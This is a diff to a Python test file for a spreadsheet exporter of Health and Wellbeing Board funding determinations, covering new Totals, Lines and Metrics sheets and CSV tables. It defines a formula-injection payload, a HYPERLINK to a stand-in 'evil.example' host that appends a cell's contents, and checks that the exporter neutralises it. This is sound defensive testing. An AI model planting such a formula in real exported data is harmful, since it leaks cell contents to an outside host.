@@ -11,7 +11,15 @@ import pytest
 from sheets.batch import BoardResult
 from sheets.payloads import BoardRequest
 from sheets.safety import neutralise
-from sheets.writing import ILLEGAL_CHARACTERS, RESULT_COLUMNS, results_csv, results_json, results_xlsx
+from sheets.writing import (
+    ILLEGAL_CHARACTERS,
+    LINE_COLUMNS,
+    RESULT_COLUMNS,
+    TOTAL_COLUMNS,
+    results_csv,
+    results_json,
+    results_xlsx,
+)
 
 HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
 
@@ -40,11 +48,15 @@ def determination(**overrides):
             {"tranche": "april-2015/conditions", "available": Decimal("250000.00"),
              "released": Decimal("187500.00"), "held_back": Decimal("62500.00"),
              "held_back_use": "pending_conditions", "recovery_plan_required": False,
-             "lines": [{"item": "seven_day_services", "available": Decimal("62500.00"),
-                        "released": Decimal("0.00"), "held_back": Decimal("62500.00")}]},
+             "lines": [{"item": "seven_day_services", "status": "not_met", "available": Decimal("62500.00"),
+                        "released": Decimal("0.00"), "held_back": Decimal("62500.00"),
+                        "payable_fraction": 0.0,
+                        "explanation": "seven_day_services: not met; nothing released"}]},
             {"tranche": "april-2015/metrics", "available": 250000.0, "released": 166666.67,
              "held_back": 83333.33, "held_back_use": "recovery_plan", "recovery_plan_required": True,
-             "lines": [{"item": "local", "available": 83333.34, "released": 0.0, "held_back": 83333.34}]},
+             "lines": [{"item": "local", "status": "determined", "available": 83333.34, "released": 0.0,
+                        "held_back": 83333.34, "payable_fraction": 0.0,
+                        "explanation": "local: achievement -25%; nothing released"}]},
             {"tranche": "october-2015/metrics", "available": Decimal("500000.00"), "released": None,
              "held_back": None, "held_back_use": None, "recovery_plan_required": None, "lines": []},
         ],
@@ -59,7 +71,8 @@ def determination(**overrides):
 
 def result(**overrides):
     request = BoardRequest("E06000001", "Hartlepool", {"hwb_code": "E06000001", "metrics": [
-        {"metric": "local", "definition": {"name": HOSTILE}, "periods": {}}]})
+        {"metric": "local", "definition": {"name": HOSTILE}, "periods": {}}]},
+        region="North East", nhs_region="North of England")
     return BoardResult(request, determination(**overrides))
 
 
@@ -101,52 +114,94 @@ def test_results_json_is_the_list_of_determinations():
     assert body[0]["metrics"][0]["name"] == HOSTILE  # JSON is data, not a spreadsheet: unchanged
 
 
+def cells_by_header(sheet, row: int) -> dict:
+    return {c.value: cell for c, cell in zip(sheet[1], sheet[row], strict=True)}
+
+
 def test_xlsx_sheets_cells_types_and_formats():
     book = openpyxl.load_workbook(io.BytesIO(results_xlsx([result()])))
-    assert book.sheetnames == ["Tranches", "Metric lines", "Conditions", "Warnings"]
+    assert book.sheetnames == ["Totals", "Tranches", "Lines", "Metrics", "Conditions", "Warnings"]
     for sheet in book.worksheets:
         assert sheet.freeze_panes == "C2"
         assert all(cell.font.bold for cell in sheet[1])
         assert sheet.column_dimensions["B"].width == 28
+        # headers a person reads, the board's regions beside its name, and a filter on every column
+        assert [c.value for c in sheet[1]][:4] == ["HWB code", "Health and Wellbeing Board", "Region",
+                                                   "NHS region"]
+        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
 
     tranches = book["Tranches"]
-    assert [c.value for c in tranches[1]] == list(RESULT_COLUMNS)
-    available, released = tranches["D2"], tranches["E3"]
+    assert [c.value for c in tranches[1]] == [
+        "HWB code", "Health and Wellbeing Board", "Region", "NHS region", "Tranche", "Available", "Released",
+        "Held back", "Use of the money held back", "Recovery plan required", "Plan assured"]
+    assert tranches["C2"].value == "North East" and tranches["D2"].value == "North of England"
+    available, released = tranches["F2"], tranches["G3"]
     assert available.value == 250000 and available.data_type == "n"
     assert released.value == pytest.approx(166666.67) and released.data_type == "n"
     assert "£" in available.number_format and "0.00" in available.number_format
-    assert tranches["H3"].value is True and tranches["I2"].value is True  # booleans stay booleans
-    assert tranches["E4"].value is None  # pending: empty
+    assert tranches["J3"].value is True and tranches["K2"].value is True  # booleans stay booleans
+    assert tranches["G4"].value is None  # pending: empty
 
-    lines = book["Metric lines"]
-    header = [c.value for c in lines[1]]
-    row = {name: cell for name, cell in zip(header, lines[2], strict=True)}
-    assert row["name"].value == "'" + HOSTILE and row["name"].data_type == "s"  # neutralised, not a formula
-    # a negative number stays a number
-    assert row["achievement"].value == -0.25 and row["achievement"].data_type == "n"
-    assert row["baseline"].value == 478.4 and row["change_p_value"].value == 0.03128  # 4 significant figures
-    assert row["payable_fraction"].value == 0.123457  # 6 decimal places (rules §5)
-    assert row["baseline_ci_lower"].value == pytest.approx(461.8)
-    assert row["ambition_significant"].value is True and row["change_significant"].value is False
-    assert row["available"].value == pytest.approx(83333.34) and "£" in row["available"].number_format
-    assert row["released"].value == 0 and row["held_back"].value == pytest.approx(83333.34)
-    assert row["trend_projection"].value is None
+    row = cells_by_header(book["Metrics"], 2)
+    assert row["Name"].value == "'" + HOSTILE and row["Name"].data_type == "s"  # neutralised, not a formula
+    # a negative number stays a number; achievement and payable are shown as percentages
+    assert row["Achievement"].value == -0.25 and row["Achievement"].data_type == "n"
+    assert row["Achievement"].number_format == "0.0%" and row["Payable"].number_format == "0.0%"
+    assert row["Baseline"].value == 478.4 and row["Change p-value"].value == 0.03128  # 4 significant figures
+    assert row["Payable"].value == 0.123457  # 6 decimal places (rules §5)
+    assert row["Baseline, lower 95% limit"].value == pytest.approx(461.8)
+    assert row["Ambition significant"].value is True and row["Change significant"].value is False
+    assert row["Available"].value == pytest.approx(83333.34) and "£" in row["Available"].number_format
+    assert row["Released"].value == 0 and row["Held back"].value == pytest.approx(83333.34)
+    assert row["Trend projection"].value is None
 
-    conditions = book["Conditions"]
-    header = [c.value for c in conditions[1]]
-    seven = {name: cell.value for name, cell in zip(header, conditions[3], strict=True)}
-    assert seven["condition"] == "seven_day_services" and seven["status"] == "not_met"
-    assert seven["reasons"] == "'-confirmed is false; explanation is empty"
-    assert seven["held_back"] == 62500
+    seven = {name: cell.value for name, cell in cells_by_header(book["Conditions"], 3).items()}
+    assert seven["Condition"] == "seven_day_services" and seven["Status"] == "not_met"
+    assert seven["Reasons"] == "'-confirmed is false; explanation is empty"
+    assert seven["Held back"] == 62500
 
     warnings = book["Warnings"]
-    assert warnings["F2"].value == "'@SUM(1+1) is not significant"
+    assert warnings["H2"].value == "'@SUM(1+1) is not significant"
+
+
+def test_xlsx_lines_and_totals():
+    book = openpyxl.load_workbook(io.BytesIO(results_xlsx([result()])))
+    lines = book["Lines"]
+    assert lines.max_row == 3  # one line in each assessed tranche of the determination above
+    first = {name: cell.value for name, cell in cells_by_header(lines, 2).items()}
+    assert (first["Tranche"], first["Line for a"], first["Metric or condition"]) == (
+        "april-2015/conditions", "condition", "seven_day_services")
+    assert (first["Available"], first["Released"], first["Held back"]) == (62500, 0, 62500)
+    assert first["Explanation"] == "seven_day_services: not met; nothing released"
+    assert cells_by_header(lines, 2)["Payable"].number_format == "0.0%"
+    totals = {name: cell.value for name, cell in cells_by_header(book["Totals"], 2).items()}
+    assert (totals["Performance pool"], totals["Available"], totals["Released"]) == (1000000, 1000000, None)
+    assert (totals["Plan assured"], totals["Recovery plan required"]) == (True, True)
+
+
+def test_results_csv_lines_and_totals_tables():
+    lines = list(csv.reader(io.StringIO(results_csv([result()], "lines"))))
+    assert tuple(lines[0]) == LINE_COLUMNS
+    assert lines[1:] == [
+        ["E06000001", "Hartlepool", "april-2015/conditions", "condition", "seven_day_services", "not_met",
+         "62500.00", "0.00", "62500.00", "0.0", "seven_day_services: not met; nothing released"],
+        ["E06000001", "Hartlepool", "april-2015/metrics", "metric", "local", "determined", "83333.34", "0.00",
+         "83333.34", "0.0", "local: achievement -25%; nothing released"],
+    ]
+    totals = list(csv.reader(io.StringIO(results_csv([result()], "totals"))))
+    assert tuple(totals[0]) == TOTAL_COLUMNS
+    assert totals[1:] == [["E06000001", "Hartlepool", "1000000.00", "1000000.00", "", "", "TRUE", "TRUE"]]
+
+
+def test_results_csv_refuses_an_unknown_table():
+    with pytest.raises(KeyError):
+        results_csv([result()], "tranche")
 
 
 def test_xlsx_drops_characters_excel_cannot_hold():
     d = result(warnings=[{"code": "x", "metric": None, "period": None, "message": "bell\x07here"}])
     book = openpyxl.load_workbook(io.BytesIO(results_xlsx([d])))
-    assert book["Warnings"]["F2"].value == "bellhere"
+    assert book["Warnings"]["H2"].value == "bellhere"
 
 
 def test_printable_text_has_no_character_a_workbook_cannot_hold():
@@ -163,9 +218,9 @@ def test_xlsx_text_stays_text_and_money_keeps_its_pennies():
     d.determination["tranches"][1]["released"] = Decimal("12345678.91")
     book = openpyxl.load_workbook(io.BytesIO(results_xlsx([d])))
     warning = book["Warnings"]
-    assert [warning[f"{c}2"].value for c in "CDE"] == ["0123", "1e5", "http://example.org/x"]
-    assert all(warning[f"{c}2"].data_type == "s" for c in "CDE")
-    assert not warning["E2"].hyperlink
-    released = book["Tranches"]["E3"]
+    assert [warning[f"{c}2"].value for c in "EFG"] == ["0123", "1e5", "http://example.org/x"]
+    assert all(warning[f"{c}2"].data_type == "s" for c in "EFG")
+    assert not warning["G2"].hyperlink
+    released = book["Tranches"]["G3"]
     assert released.value == 12345678.91 and released.data_type == "n"  # the nearest double, not rounded
     assert "£" in released.number_format
